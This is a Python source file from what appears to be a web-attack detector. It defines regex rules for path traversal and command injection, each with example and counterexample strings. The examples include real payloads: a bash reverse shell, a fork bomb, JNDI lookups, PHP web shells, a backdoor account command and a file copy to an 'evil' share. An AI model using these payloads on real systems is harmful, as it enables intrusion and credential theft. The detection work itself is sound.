"""Web-attack signals that reach the server's files and shell."""

from __future__ import annotations

from bastion.core.rules import Rule
from bastion.core.types import Severity

TRAVERSAL = "webattack.path_traversal"
CMDI = "webattack.cmdi"

_S = Severity.HIGH  # the detector sets each finding's severity from the score

# Commands that are also everyday English words; after a separator they need more context.
_ENGLISH = (
    "time more less type find set make head host top mail service source alias fetch tee halt id"
    " exec eval"
)
_UNIX = (
    r"(?:cat|tac|nl|head|tail|more|less|ls|dir|id|pwd|whoami|uname|hostname|ifconfig|ipconfig|netstat"
    r"|ps|wget|curl|nc|ncat|netcat|socat|telnet|ssh|scp|ftp|tftp|bash|sh|zsh|ksh|csh|dash|python\d?"
    r"|perl|ruby|php|node|lua|ping|nslookup|dig|host|traceroute|rm|mv|cp|chmod|chown|touch|mkdir"
    r"|echo|printf|sleep|kill|killall|pkill|env|export|set|unset|sudo|su|crontab|base64|xxd|od"
    r"|powershell|pwsh|cmd|net|netsh|certutil|bitsadmin|reg|wmic|systeminfo|tasklist|taskkill|type|find"
    r"|grep|awk|sed|vi|vim|nano|dd|tar|zip|unzip|gzip|gcc|cc|make|eval|exec|time|timeout|nohup"
    r"|xargs|tee|mail|sendmail|useradd|passwd|shutdown|reboot|halt|mount|apt|aptitude|apt-get|yum"
    r"|dnf|rpm|dpkg|pip|npm|git|docker|kubectl|systemctl|service|chroot|strace|gdb|rmt|top|ansible"
    r"|ansible-pull|cpulimit|alias|source|awk|openssl|jq|lwp-download|fetch|aria2c|busybox)"
)

# A cmd.exe variable's name (`[a-z_][\w()]*`) other than DATE and TIME, spelt without lookahead.
_NOT_DATE_OR_TIME = (
    r"(?:[a-ce-su-z_][\w()]*|[dt](?:[\w()]{0,2}|[\w()]{4,})"
    r"|d(?:[b-z0-9_()][\w()]{2}|a[a-su-z0-9_()][\w()]|at[a-df-z0-9_()])"
    r"|t(?:[a-hj-z0-9_()][\w()]{2}|i[a-ln-z0-9_()][\w()]|im[a-df-z0-9_()]))"
)

_BACKTICK = r"(?:^\s*|[^`\s]|[^\w\s`]\s+)`{1,2}"
_PLAIN = "(?:" + "|".join(w for w in _UNIX[3:-1].split("|") if w not in _ENGLISH.split()) + ")"
_WORDY = "(?:" + "|".join(_ENGLISH.split()) + r")\s+[-/$~.'\"]"


# --- path traversal ----------------------------------------------------------------------

TRAVERSAL_DOT_DOT = Rule(
    id="traversal.dot_dot",
    code=TRAVERSAL,
    pattern=(
        r"(?:\.\.\.?[\\/;]|[\\/]\.\.\.?(?:[\\/;]|$)|\.\.(?:%2f|%5c|%c0%af|%c1%9c|%252f|%255c)"
        r"|%2e%2e|%252e|\.%2e|%2e\.|0x2e0x2e|\.\.\\|\.\.;)"
    ),
    severity=_S,
    score=0.5,
    message="parent-directory sequence",
    examples=("../../etc/passwd", "..\\windows", "%2e%2e%2f", "..;/"),
    counterexamples=("wait... what?", "version 1..3"),
)

TRAVERSAL_CLIMB = Rule(
    id="traversal.climb",
    code=TRAVERSAL,
    pattern=(
        r"\.\.[\\/;]\.\.[\\/;]|(?:^|[=\s\"'(,:])\.\.\.[\\/;][\w.%~]|\.\.(?:%00|\x00)"
        r"|(?i)(?:%2e|%252e|%c0%ae|%e0%80%ae|%c0%2e|%u002e|%uff0e|0x2e){2}"
        r"|(?i)\.\.(?:%2f|%5c|%252f|%255c|%c0%af|%c1%9c|%c1%1c|%e0%80%af|%u2215|%u2216|0x5c|0x2f)"
        r"|(?i)0x5c0x2e|(?i)\\\.\.|\.\.;|(?:^|[\\/=])\.{4,}[\\/]"
    ),
    severity=_S,
    score=0.75,
    # One `../` to a sibling (`../assets/logo.png`) stays inside a project; escaping a root takes
    # repeated or disguised steps.
    message="climbing out of the directory: repeated or encoded parent steps",
    examples=(
        "../../etc/passwd",
        "..%252f..%252f",
        "%c0%ae%c0%ae/",
        "file=.../x",
        "..;/",
        "....//WEB-INF/web.xml",
    ),
    counterexamples=(
        "see docs/../README for details",
        "wait... what?",
        '<a href="../">up</a>',
        "../assets/logo.png",
        '{"src": "../lib/util.js"}',
    ),
)

TRAVERSAL_SENSITIVE_FILE = Rule(
    id="traversal.sensitive_file",
    code=TRAVERSAL,
    pattern=(
        r"(?i)/etc/(?:passwd|shadow|group|hosts|issue|sudoers|crontab|apache2|nginx|httpd|ssh"
        r"|mysql|\[|\*|\?)|(?i)/proc/(?:self|\d+|sys|version|cpuinfo)|(?i)/root/\.|(?i)/\.ssh/"
        r"|(?i)\bid_rsa\b|(?i)/\.aws/credentials|(?i)\bwin\.ini\b|(?i)\bboot\.ini\b"
        r"|(?i)windows[\\/]system32|(?i)\bweb\.config\b|(?i)/var/log/|(?i)\.htaccess\b"
        r"|(?i)\.htpasswd\b|(?i)\bwp-config\.php\b|(?i)/etc/[a-z.\[\]*?!]+[a-z]"
        r"|(?i)/(?:e|\[e[^\]]*\])(?:t|\[t[^\]]*\]|\*|\?)(?:c|\*|\?)"
    ),
    severity=_S,
    score=0.6,
    message="sensitive system file path",
    examples=("/etc/passwd", "C:\\windows\\system32", "cat /root/.aws/credentials"),
    counterexamples=("etc. passwords are stored hashed", "the root of the tree"),
)

# A command that prints, copies or sends a file, with its options: the file named after it is read.
_READS_FILE = (
    r"\b(?:cat|tac|type|more|less|head|tail|strings|xxd|od|base64|cp|copy|xcopy|scp|rsync|nc"
    r"|curl|wget|get-content|gc|reg|esentutl)(?:\s+[-/]\S+)*\s+"
)


TRAVERSAL_SECRET_FILE = Rule(
    id="traversal.secret_file",
    code=TRAVERSAL,
    # Files that hold credentials or a process's secrets; an argument naming one is the goal
    # of a traversal whether or not it climbs to get there.
    pattern=(
        r"(?i)/etc/(?:passwd|shadow|gshadow|sudoers|master\.passwd|security/passwd)\b"
        r"|(?i)/proc/(?:self|\d+)/(?:environ|cmdline|maps|mem|fd/)|(?i)\b(?:boot|win|system)\.ini\b"
        r"|(?i)system32[\\/]+config[\\/]+(?:sam|system|security)\b|(?i)/\.aws/credentials\b"
        r"|(?i)\bid_(?:rsa|dsa|ecdsa|ed25519)(?:$|[^.\w]|\.[^p])|(?i)/\.ssh/authorized_keys\b"
        # Named in a sentence (`my .htpasswd file got deleted`), the file is talked about; as a
        # value, quoted, or at the end of a path or a parameter, it is asked for.
        # A command reading or copying it (`cat .htpasswd`, `type ntuser.dat`) asks for it too.
        r"|(?i)(?:^\s*|[\\/='\"]|" + _READS_FILE + r")\.htpasswd\b|(?i)\bwp-config\.php\b"
        r"|(?i)/\.(?:bash|zsh|mysql)_history\b"
        r"|(?i)/\.git/config\b|(?i)/\.env(?:$|[^\w.])|(?i)\bweb-inf[\\/]+web\.xml\b"
        r"|(?i)system32[\\/]+drivers[\\/]+etc[\\/]+hosts\b"
        r"|(?i)/var/log/(?:apache2?|httpd|nginx)/(?:access|error)[._]log\b"
        r"|(?i)[\\/]\.(?:(?:[a-z]+_)?history|netrc|pgpass|npmrc|pypirc|git-credentials)(?:$|[^\w.])"
        r"|(?i)[\\/]\.(?:kube|docker)[\\/]+config\b|(?i)[\\/]\.gnupg[\\/]"
        # A user's registry hive, and a path through a host's administrative share (`\\h\c$\`).
        r"|(?i)(?:^\s*|[\\/='\"]|" + _READS_FILE + r")ntuser\.dat\b"
        r"|(?i)^\s*\\\\[^\\\s]+\\(?:[a-z]|admin)\$(?:\\|$)"
    ),
    severity=_S,
    score=0.75,
    message="credential or secret-holding system file",
    examples=(
        "/etc/passwd",
        "/etc/shadow\x00",
        "/proc/self/environ",
        "C:\\boot.ini",
        "~/.ssh/id_rsa",
        "/var/www/.env",
        "../.history",
        "/home/dev/.zsh_history",
        "~/.kube/config",
        "\\\\::1\\c$\\users\\default\\ntuser.dat",
        "\\\\fileserver\\admin$\\system32",
        "C:\\Users\\anna\\NTUSER.DAT",
        "NTUSER.DAT",
        "/var/www/.htpasswd",
        "file=.htpasswd",
        "x & type ntuser.dat",
        "cat .htpasswd",
        "copy ntuser.dat \\\\evil\\share",
    ),
    counterexamples=(
        "how do I reset my passwd",
        "~/.ssh/id_rsa.pub",
        "/srv/app/.envrc",
        "docs/history.md",
        "/srv/app/.npmrc.example",
        "\\\\fileserver\\shared\\reports",
        "price is $5\\c$ later",
        "my NTUSER.DAT file is corrupted",
        "my .htpasswd file got deleted, how do I recreate it?",
        "the cat knocked my NTUSER.DAT backup off the desk",
    ),
)

TRAVERSAL_STEP_TO_CONFIG = Rule(
    id="traversal.step_to_config",
    code=TRAVERSAL,
    # One parent step is a sibling folder's file (`../assets/logo.png`) unless what it reaches is
    # a server's configuration, its logs or its installer, which is what a file-inclusion probe
    # reaches for; so is a NUL byte that cuts off the extension a server appends (`x.php%00`).
    pattern=(
        r"(?i)\.\.[\\/]+(?:[\w.-]+[\\/]+){0,2}?(?:_?(?:config|configuration|conf|settings|database"
        r"|db|local|credentials|secrets?)(?:\.inc)?\.(?:php\d?|phtml|asp|aspx|inc|ini|ya?ml|xml"
        r"|properties|conf|cfg|bak|old|orig|env)\b|appsettings(?:\.\w+)?\.json\b|install\.php\b"
        r"|setup\.php\b|phpinfo\.php\b|\.env\b|\.git[\\/]|\.svn[\\/]|\.ht(?:access|passwd)\b"
        r"|web\.config\b|logs?[\\/]+[\w.-]*(?:error|access|debug|app)[\w-]*\.log\b"
        r"|(?:error|access|debug)[\w-]*\.log\b)"
        r"|(?i)[\w/\\]\.(?:php\d?|phtml|asp|aspx|jsp|inc|html?|txt|cgi|pl|ini|conf)(?:%00|\x00)"
    ),
    severity=_S,
    score=0.75,
    message="a parent step to a server's configuration, logs or installer",
    examples=(
        "../config.php",
        "../includes/config.inc.php",
        "../logs/error.log",
        "..\\web.config",
        "../install.php",
        "index.php%00",
    ),
    counterexamples=(
        "../assets/logo.png",
        '{"src": "../lib/config.js"}',
        "../docs/configuration.md",
        "see ../CHANGELOG.txt",
        "../reports/access-summary.pdf",
    ),
)


TRAVERSAL_SYSTEM_PATH = Rule(
    id="traversal.system_path",
    code=TRAVERSAL,
    # A value that is nothing but an absolute path into the system's own configuration (`/etc`,
    # `/proc`, `/boot`, `inetpub`), a web server's logs or configuration, or a
    # shell's history and start-up files: what a file-inclusion probe asks for. A sentence that
    # mentions such a path is not a path argument, so the value must be the path alone.
    pattern=(
        r"(?i)^\s*['\"]?(?:file:/+)?[\\/]?(?:[a-z]:)?[\\/]+(?:etc|proc|boot|root|private[\\/]etc"
        r"|usr[\\/]local[\\/]etc|inetpub)[\\/][^\s'\"<>]*['\"]?\s*$"
        r"|(?i)^\s*etc/(?:passwd|shadow|group|hosts|issue|sudoers)\b"
        r"|(?i)^\s*[\\/]?(?:[a-z]:)?[\\/][^<>\n]*[\\/][\w.-]*(?:access|error)[._-]?log(?:\.\d+|\.gz)?"
        r"(?:%00\S*)?\s*$"
        r"|(?i)^\s*(?:[a-z]:)?[\\/][^<>\n]*[\\/](?:httpd\.conf|apache2?\.conf|nginx\.conf|php\.ini"
        r"|my\.cnf|sshd_config|web\.config|metabase\.xml|server\.xml|global\.asa|tomcat-users\.xml"
        r"|applicationhost\.config|\.ht(?:access|passwd)|my\.ini|pg_hba\.conf|pg_ident\.conf"
        r"|postgresql\.conf|filezilla server\.xml|master\.mdf|mysql(?:-bin)?\.(?:log|err|index)"
        r"|sendmail\.ini|mercury\.ini|wampserver\.conf|config\.inc\.php)"
        r"(?:\.default|\.php|\.bak|\.old)?\s*$"
        # Windows keeps its registry hives, setup answers (with passwords), and service logs in
        # these folders, and its own logs and settings at the top of its folder.
        r"|(?i)^\s*[a-z]:[\\/]+(?:windows|winnt)[\\/]+(?:repair|panther|debug|system32[\\/]+"
        r"(?:config|logfiles|inetsrv|drivers[\\/]+etc))(?:[\\/][^<>\n]*)?\s*$"
        r"|(?i)^\s*[a-z]:[\\/]+(?:windows|winnt)[\\/]+[\w.-]+\.(?:log|ini)\s*$"
        r"|(?i)^\s*[a-z]:[\\/]+inetpub[\\/]+logs[\\/]"
        # The system's own logs (logins, the kernel, mail, cron) and Unix accounting records: an
        # application's log (`/var/log/app/worker.log`) is what a tool is sent to read.
        r"|(?i)^\s*/var/(?:log|adm)/(?:[\w.-]+/)*(?:auth|secure|messages?|syslog|kern|boot|cron"
        r"|maillog|lastlog|[bw]tmpx?|utmpx?|faillog|sulog|loginlog|authlog|xferlog|paniclog|mainlog"
        r"|SYSLOG|vmcore|aculogs?|pacct)(?:\.log)?(?:\.\d+)?\s*$|(?i)^\s*/var/adm/\S*\s*$"
        r"|(?i)^\s*(?:\.?[\\/])*\.ht(?:access|passwd|digest|group)\s*$"
        r"|(?i)^\s*(?:/root|/home/[\w.-]+)?/\.(?:bashrc|bash_profile|bash_history|bash_logout|profile"
        r"|cshrc|tcshrc|zshrc|zsh_history|kshrc|login|logout|forward|[rs]hosts|netrc|mysql_history"
        r"|psql_history|viminfo|git-credentials)\s*$"
    ),
    severity=_S,
    score=0.75,
    message="the value is a path into system configuration, server logs or a shell's files",
    examples=(
        "/etc/ssl/openssl.cnf",
        "etc/group",
        "/proc/version",
        "d:\\inetpub\\logs\\u_ex1.log",
        "/srv/www/logs/error_log",
        "/opt/lampp/etc/httpd.conf",
        "/.netrc",
        "/.shosts",
        "/var/log/auth.log",
        "/var/adm/messages",
        "/var/www/html/.htaccess",
        "/Program Files\\Apache Group\\Apache2\\conf\\httpd.conf",
        "/srv/private/etc/httpd/httpd.conf.default",
        "C:/Windows/Panther/Unattend.xml",
        "c:\\WINDOWS\\system32\\config\\regback\\sam",
        "C:/WINDOWS/setupact.log",
        "c:/Program Files/PostgreSQL/9.1/data/pg_hba.conf",
        "C:/Program Files/FileZilla Server/FileZilla Server.xml",
        ".htaccess",
        "././.htaccess",
    ),
    counterexamples=(
        "Where is the nginx config, /etc/nginx/nginx.conf?",
        "/home/ana/projects/etc/notes.md",
        "~/.bashrc",
        "proc/parser.py",
        "/var/log/app/worker.log",
        "reports/2024/error-log-summary.pdf",
        "/docs/error-log-guide.md",
        "C:\\Windows\\Fonts\\arial.ttf",
        "how do I write an .htaccess redirect?",
        "/var/log/app/auth-service.log",
        "C:\\Windows\\Web\\Wallpaper\\img0.jpg",
        "C:/Users/ana/Documents/my.ini notes.txt",
        "/var/log/myapp/messages.json",
        "/home/ana/notes/secure.txt",
    ),
)

TRAVERSAL_PARAMETER = Rule(
    id="traversal.parameter",
    code=TRAVERSAL,
    # A request parameter or an uploaded file's name is resolved by the server against its own
    # directory (`download?file=`, `Content-Disposition: ...; filename=`), so there even one
    # parent step climbs out of what the server meant to serve or write.
    pattern=(
        r"(?i)(?:^|[?&;])\w[\w.\[\]-]*=\.\.\.?(?:[\\/]|%2f|%5c)"
        r"|(?i)\bfilename\*?\s*=\s*(?:\S*'')?[\"']?[^\"'\n;]*\.\.(?:[\\/]|%2f|%5c)"
    ),
    severity=_S,
    score=0.75,
    message="parent-directory step in a request parameter or an upload's file name",
    examples=(
        "download.php?file=../config.php",
        "a=1&path=..\\web.config",
        "page=../admin",
        'Content-Disposition: form-data; name="up"; filename="../shell.php"',
    ),
    counterexamples=(
        "../assets/logo.png",
        '{"path": "../assets/logo.png"}',
        'Content-Disposition: attachment; filename="report.pdf"',
        "https://example.com/docs/?page=intro",
        "--out-dir=../dist",
    ),
)

TRAVERSAL_SCHEME = Rule(
    id="traversal.scheme",
    code=TRAVERSAL,
    # `data://` is PHP's stream wrapper (a data URI has no `//`): inline code to include.
    # TFTP (over UDP, no authentication) is no scheme a user's URL has.
    pattern=r"(?i)\bfile:/|\b(?:php|zip|phar|expect|glob|jar|netdoc|gopher|dict|data|tftp)://",
    severity=_S,
    score=0.75,
    message="local file or wrapper URL scheme",
    examples=(
        "file:///etc/passwd",
        "php://filter/resource=index.php",
        "data://text/plain;base64,SGk=",
        "url=tftp://198.51.100.4:69/x",
    ),
    counterexamples=(
        "save the file to disk",
        "https://example.com",
        "data:image/png;base64,iVBORw0KGgo=",
    ),
)


# --- command injection -------------------------------------------------------------------

CMDI_SEPARATOR_COMMAND = Rule(
    id="cmdi.separator_command",
    code=CMDI,
    pattern=(
        # A backtick after another one is a Markdown code fence (```bash), and one after a word
        # and a space is inline code in prose (`Run `npm test``); neither is a substitution.
        rf"(?:[;&|\n]|{_BACKTICK}|\$\(|\|\||&&)\s*[{{(]?\s*(?:/(?:usr/)?s?bin/)?"
        rf"(?:{_PLAIN}(?:[\s;&|`<>$]|$)|{_WORDY})"
        rf"|\$\(\s*[a-z][\w-]*(?:[^\w\s()-]|\s|\)(?:[^.]|$)|$)"
        rf"|{_BACKTICK}\s*(?:/(?:usr/)?s?bin/)?{_PLAIN}\b"
    ),
    severity=_S,
    score=0.85,
    message="command after a shell separator",
    examples=(
        "x; cat /etc/passwd",
        "a && whoami",
        "$(id)",
        "`uname -a`",
        "|nc 1.2.3.4 80",
        "a`whoami`",
        "x; `whoami`",
    ),
    counterexamples=(
        "milk; bread; cheese",
        "Tom & Jerry",
        "hello; time he came",
        "call $(window).scrollTop() first",
        "```python\nprint(1)\n```",
        "```bash",
        "Run `npm install` then `npm start`",
        "The command `ls -la` lists hidden files",
    ),
)

CMDI_SHELL_SYNTAX = Rule(
    id="cmdi.shell_syntax",
    code=CMDI,
    pattern=(
        # An expansion glued inside a word hides a command or file name (`/etc/${z}hosts`); one
        # between path parts builds a URL in a template literal (`${base}/api/${id}`).
        r"\$\{?IFS\}?|\w\$\{[a-z_]*\}|\$\{[a-z_]*\}\w|(?:^|[^\w.*/-])\{[a-z]+,[-/$~][^}\s]*\}|/dev/(?:tcp|udp)/|(?i)/bin/(?:ba|z|k|da)?sh"
        r"\b|(?i)\bcmd(?:\.exe)?\s*/[ck]\b|(?i)\bpowershell(?:\.exe)?\s+-|<<<|\$\(\(|\bexec\s+\d"
        r"|(?i)\b(?:nc|ncat|netcat)\s+-[a-z]*e\b|(?i)\bsh\s+-c\b|(?i)\bbash\s+-[ci]\b"
        # A mode change of a file path (`chmod +x x.sh`, `chmod 777 /tmp/a`), or of anything where
        # chmod is the command (first, or after a separator: `;chmod 4755 bash`); not a question
        # about a mode ("what does chmod 755 mean").
        r"|(?i)(?:^|[;&|`\n]|\$\()\s*chmod\s+(?:-\w+\s+)*[+0-7]\S*\s+\S"
        r"|(?i)\bcurl\s+[^\s]+\s*\|\s*(?:ba)?sh|\b(?:chmod\s+(?:-\w+\s+)*[+0-7]\S*\s+(?:[~/$.*]"
        r"|[^\s/.*]*[/.*])|wget\s+https?://|curl\s+"
        # An empty choice in a brace list (`{,ls}`, `{id,}`), not a regex count (`{2,}`, `{,3}`).
        r"(?:-\w+\s+)*https?://)|\$'\\|\\\$\(|\{,[^\d]|[^\d\s],\}|\w\$(?:[@\d_]|\{\w+\})\w|[a-z]'(?:[a-mo-z][a-z]{0,2}|n[a-z]{1,2}|)'[a-z]|[a-z]\"[a-z]{0,3}\"[a-z]"
        # Wildcards standing in for letters of a path part (`/b?n/`, `/???/`), not a whole part
        # of a file pattern (`reports/*/summary.pdf`, `photos/2024-??-??/`).
        r"|/\[[^\]]+\]\w|\w\[[!^]?[a-z]\]\w|/\?{1,4}/|/[a-z?*]*[a-z][a-z?*]*[?*][a-z?*]*/"
        r"|/[a-z?*]*[?*][a-z?*]*[a-z][a-z?*]*/"
        r"|\(\)\s*\{\s*[\w:.]*(?:\(\))?\s*[|&]|\(\)\s*\{\s*:\s*;"
        r"|(?:^|[\s;|&])[<>]\(\s*[a-z][\w.-]*\s+[^\s)]"
        r"|(?i)\{\s*jndi\s*:|(?i)\$\{\s*(?:lower|upper|env|sys|date|::-)[\s:]"
        # Parameter expansion that cuts a variable to pieces (`${PATH#*/}`, `${HOME%%/*}`,
        # `${PATH:0:1}`, `${!x}`): how a payload builds `/` or a command from the environment.
        r"|\$\{#?[A-Za-z_]\w*(?:##?|%%?[^\d\s}]|:\d+(?::\d+)?\})|\$\{![A-Za-z_]"
        # The same in cmd.exe (`%PROGRAMFILES:~10,-5%` is a space), but for the date and the
        # time, which a batch file cuts into a file name (`%date:~10,4%`); and a line piped into
        # the shell that runs it (`echo id|$0`), not a Markdown table's cell (`| $0 |`).
        r"|(?i)%" + _NOT_DATE_OR_TIME + r":~-?\d+(?:,-?\d+)?%"
        # One character of the date or the time is a separator picked out as a space
        # (`ping%date:~3,1%127.0.0.1` on an en-US system), not part of a file name.
        r"|(?i)%(?:date|time):~-?\d+,1%"
        r"|\|\s*\$\{?0\}?(?:\s*$|\s*[;&)`<>]|\s+-|\s*\d?>|\|)"
    ),
    severity=_S,
    score=0.7,
    message="shell metacharacter syntax",
    examples=(
        "cat${IFS}/etc/passwd",
        "{cat,/etc/passwd}",
        "bash -i >& /dev/tcp/1.2.3.4/8080",
        ":(){ :|:& };:",
        "() { :; }; echo x",
        "diff <(cat a) b",
        "${jndi:ldap://x.example/a}",
        "${${lower:j}ndi:rmi://x.example/a}",
        "head /etc/${z}hosts",
        "w'h'oami",
        "c$@at /etc/hosts",
        "who$1ami",
        "${HOME%%/*}",
        "cd ${PATH:0:1}",
        "${PATH#*/}",
        "/b?n/c?t /etc/passwd",
        "ping%PROGRAMFILES:~10,-5%127.0.0.1",
        "echo whoami|$0",
        "ping%DATEX:~0,1%127.0.0.1",
        "echo id |$0|cat",
        "ping%date:~3,1%127.0.0.1",
        "echo id|$0 2>&1",
        '{"cmd": "chmod +x /tmp/run.sh"}',
        "x; chmod 777 *",
        "chmod +x payload",
        "a;chmod 4755 bash",
    ),
    counterexamples=(
        "reports/*/summary.pdf",
        "photos/2024-??-??/*.jpg",
        '{"q": "what does chmod 755 mean"}',
        "costs $5 {approx}",
        "what? really",
        "f = () { return x; }",
        "x <(y)",
        "Dear ${first_name}, thanks",
        "fish'n'chips",
        "Ke$ha and A$AP Rocky",
        "src/**/*.{ts,tsx}",
        "photo-{small,large}.png",
        "{a,1,2}",
        "`${count%2}`",
        "${PORT:-8080}",
        "${var.region}",
        "set X=%PATH%",
        "cost |$0.99 each",
        "const url = `${base}/api/v1/users/${id}`;",
        "^[a-z0-9._%+-]+@[a-z0-9.-]+\\.[a-z]{2,}$",
        "\\d{,3}",
        "backup_%date:~10,4%%date:~4,2%.zip",
        "log_%TIME:~0,2%.txt",
        "| Fee | $0 |",
        "| $0 |",
    ),
)

CMDI_WINDOWS_BATCH = Rule(
    id="cmdi.windows_batch",
    code=CMDI,
    pattern=(
        r"(?i)(?:^|[&|;(]\s*)(?:if\s+(?:/i\s+)?(?:not\s+)?(?:exist|defined|errorlevel|\S*[%\"\[\](){}!]\S*\s*==|\S+==|\S+\s*"
        r"(?:\bequ\b|\bneq\b|\blss\b|\bleq\b|\bgtr\b|\bgeq\b))|for\s+(?:/[dflr]\s+(?:[a-z]:\\\S*\s+)?)*"
        r"(?:\"[^\"]*\"\s+)?%%?\S*\s+in\s*\(|if\s+\"[^\"]*\"\s*==|set\s+/[ap]\s|call\s+:|goto\s+:?\w+|echo\s+(?:off|on)"
        r"\b|%comspec%|start\s+/b\b)"
    ),
    severity=_S,
    score=0.8,
    message="Windows batch control flow",
    examples=(
        'IF EXIST "temp.txt" ECHO found',
        "& FOR %@ IN (a,b,c) DO cmd",
        "IF 2 GEQ 15 x",
        'FOR /F "tokens=1 delims=," %%G IN (a.txt) DO ECHO %%G',
        "& FOR %/ IN (a,b,c) DO cmd",
        'For /R C:\\temp\\ %G IN (*.bak) do Echo del "%G"',
    ),
    counterexamples=("if you exist, reply", "for the win", "if total == 0: return"),
)

CMDI_HIDDEN_PATH = Rule(
    id="cmdi.hidden_path",
    code=CMDI,
    # An absolute path spelt with `?` wildcards in two or more parts (`/???/??t /??c/?asswd`),
    # which the shell expands to `/bin/cat /etc/passwd` while a filter sees no command; and
    # Windows account changes (`net user x y /add`, `net localgroup administrators x /add`).
    pattern=(
        r"(?:^|[\s;|&'\"(=`])/(?:[\w.-]*\?[\w.?-]*/)+[\w.-]*\?[\w.?+-]*"
        r"|(?i)\bnet(?:\.exe)?\s+(?:user|localgroup)\s+[^\n]{1,80}?/add\b"
    ),
    severity=_S,
    score=0.8,
    message="a command hidden behind path wildcards, or a Windows account change",
    examples=(
        "/???/??t /??c/?asswd",
        "/???/?s -la",
        "net localgroup Administrators hacker /ADD",
        "& net user backdoor P4ss! /add",
    ),
    counterexamples=(
        "/docs/*/index.md",
        "src/**/*.ts",
        "is /etc/hosts? yes",
        "the net user count went up; add more",
    ),
)


CMDI_SERVER_SIDE = Rule(
    id="cmdi.server_side",
    code=CMDI,
    # Commands run by the server itself: server-side includes, PHP's process functions fed
    # from the request, and PHP's `${...}` interpolation calling a function.
    pattern=(
        r"(?i)!--\s*#\s*(?:exec|include|echo|config|set|printenv|fsize|flastmod)\b"
        r"|(?i)\b(?:system|passthru|shell_exec|popen|proc_open|pcntl_exec)\(\s*(?:\$_(?:get|post"
        r"|request|cookie|server)\b|['\"]?(?:/(?:usr/)?s?bin/)?(?:id|ls|whoami|cat|uname|dir|pwd|nc"
        r"|wget|curl|bash|sh|ping|nslookup|sleep|ipconfig|ifconfig|netstat|hostname)\b)"
        # `eval`, `exec` and `assert` take code in most languages; only a quoted command name or
        # a request variable makes them a shell call (`assert(id > 0)` is a check on a variable).
        r"|(?i)\b(?:eval|exec|assert)\(\s*(?:\$_(?:get|post|request|cookie|server)\b|['\"]"
        r"(?:/(?:usr/)?s?bin/)?(?:id|ls|whoami|cat|uname|dir|pwd|nc|wget|curl|bash|sh|ping"
        r"|nslookup|sleep|ipconfig|ifconfig|netstat|hostname)\b)"
        r"|(?i)\$\{\s*@?(?:system|print|eval|exec|phpinfo|passthru|shell_exec|sleep|usleep)\s*\("
        # A PHP block that runs a command or code at once, PHP's information page called right
        # after a separator or as the whole value, and a request variable interpolated into a
        # string that PHP evaluates.
        r"|(?i)<\?(?:php\b|=)?\s*@?(?:system|passthru|shell_exec|exec|eval|assert|popen|proc_open"
        r"|phpinfo|echo\s*`)|(?i)(?:^|[;|&'\"`{(]\s*)phpinfo\s*\(\s*\)|(?i)\{\s*\$_(?:get|post"
        r"|request|cookie|server)\s*\["
        # A PHP block whose code takes a request variable (`<?php include($_GET['p']); ?>`): a
        # web shell being written, whatever function it hands the variable to.
        r"|(?i)<\?(?:php\b|=)[^?]{0,120}?\$_(?:get|post|request|cookie|files)\s*\["
    ),
    severity=_S,
    score=0.8,
    message="command run by the server (SSI directive, PHP process call)",
    examples=(
        '<!--#exec cmd="ls"-->',
        "lt;!--#include virtual=",
        "<?php system($_GET['cmd']); ?>",
        "{${system(id)}}",
        "${@print(chr(122))}",
        "<?php passthru('uptime'); ?>",
        "<?=exec($q)?>",
        "x';phpinfo();#",
        "{${usleep(900000)}}",
        'echo {$_REQUEST["c"]}',
        "eval('hostname')",
        "echo \"<?php include($_GET['page']); ?>\" > rfi.php",
    ),
    counterexamples=(
        "<!-- #main content -->",
        "the system (id card) office",
        "${name}",
        "<?xml version='1.0'?>",
        "see the phpinfo page in the admin panel",
        "eval(expression) in Python is risky",
        "assert(id > 0);",
        "I ran phpinfo() and the version is 8.2",
        "<?php include 'header.php'; ?>",
        "<?php require_once __DIR__ . '/vendor/autoload.php';",
        "<?php echo htmlspecialchars($title); ?>",
        "read $_GET['id'] in PHP safely",
    ),
)

CMDI_LEADING_COMMAND = Rule(
    id="cmdi.leading_command",
    code=CMDI,
    pattern=(
        rf"(?i)^\s*[;&|`'\"{{(]*\s*(?:/(?:usr/)?s?bin/)?{_UNIX}(?:\s+-{{1,2}}[a-z]|\s+['\"/~.$]"
        rf"|\s+\w+\s+\w+\s*$|\s*$|\s*[;&|<>`]|\s*\()"
    ),
    severity=_S,
    # Alone a supporting signal: a value that starts with a command word is a command line,
    # which a shell tool takes and a search may be; the shell reading decides whether it is
    # injected.
    score=0.3,
    message="field starts with a shell command",
    examples=("ls foo bar", "cat /etc/hosts", ";aptitude", "whoami"),
    counterexamples=("catalog number 5", "time to go home now please"),
)
